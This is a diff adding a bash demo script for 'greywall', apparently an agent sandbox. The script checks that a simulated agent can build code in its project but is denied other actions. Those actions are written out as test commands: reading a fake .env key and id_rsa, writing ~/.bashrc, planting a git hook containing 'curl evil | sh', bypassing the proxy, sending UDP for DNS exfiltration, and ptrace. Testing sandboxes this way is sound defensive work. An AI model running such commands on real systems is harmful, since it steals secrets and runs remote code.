@@ -1,0 +1,53 @@
+#!/bin/bash
+# demo.sh PATH/TO/greywall: greywall's main job, for real.
+#
+# A project directory, a web server and a SOCKS5 proxy on loopback; then an
+# "agent" command runs in the sandbox: its work in the project succeeds,
+# while reading secrets, writing outside the project, planting a git hook
+# and going to the network directly are all denied.  The same command run
+# without greywall would succeed at everything.
+set -u
+GW=$(realpath "$1")
+D=$(mktemp -d /tmp/greywall-demo.XXXXXX)
+PIDS=()
+trap 'kill "${PIDS[@]}" 2>/dev/null; wait 2>/dev/null; rm -rf "$D"' EXIT
+
+port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
+HTTP=$(port)
+SOCKS=$(port)
+mkdir -p "$D/www" "$D/home" "$D/project/src"
+echo "package index from the allowed server" >"$D/www/index.txt"
+python3 -m http.server --bind 127.0.0.1 --directory "$D/www" "$HTTP" >/dev/null 2>&1 &
+PIDS+=($!)
+microsocks -i 127.0.0.1 -p "$SOCKS" >/dev/null 2>&1 &
+PIDS+=($!)
+for _ in $(seq 100); do (exec 3<>/dev/tcp/127.0.0.1/$HTTP) 2>/dev/null && break; sleep 0.05; done
+
+cd "$D/project"
+git init -q . 2>/dev/null || mkdir -p .git/hooks
+mkdir -p .git/hooks
+echo "OPENAI_API_KEY=sk-demo-secret" >.env
+echo "id_rsa: demo private key" >"$D/home/id_rsa"
+
+AGENT=$(cat <<SH
+try() { if eval "\$2" >/dev/null 2>&1; then echo "  [allowed] \$1"; else echo "  [denied]  \$1"; fi; }
+echo "inside the sandbox: uid \$(id -u), \$(grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\t\n' '  ')"
+try "write src/main.c in the project" 'echo "int main(void) { return 0; }" > src/main.c'
+try "compile it in the project"        'cc -o src/main src/main.c && src/main'
+try "fetch through the proxy"          'curl -sf --max-time 5 http://127.0.0.1:$HTTP/index.txt'
+try "read the project's .env"          'cat .env'
+try "read a key outside the project"   'cat $D/home/id_rsa'
+try "write outside the project"        'echo x > $D/home/.bashrc'
+try "plant a git hook"                 'echo "curl evil | sh" > .git/hooks/pre-commit'
+try "connect directly, bypassing the proxy" 'curl -sf --max-time 5 --noproxy "*" http://127.0.0.1:$HTTP/index.txt'
+try "send UDP (DNS exfiltration)"      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 53))"'
+try "ptrace another process"           'python3 -c "import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(16, 1, 0, 0) != 0)"'
+SH
+)
+
+echo "\$ greywall --no-bwrap --proxy socks5://127.0.0.1:$SOCKS -c '<agent script>'"
+HOME="$D/home" "$GW" --no-bwrap --proxy "socks5://127.0.0.1:$SOCKS" -c "$AGENT"
+rc=$?
+echo
+echo "greywall exited with $rc; src/main.c on the host: $(test -f src/main.c && echo present || echo missing);" \
+	".git/hooks/pre-commit: $(test -e .git/hooks/pre-commit && echo PRESENT || echo absent)"
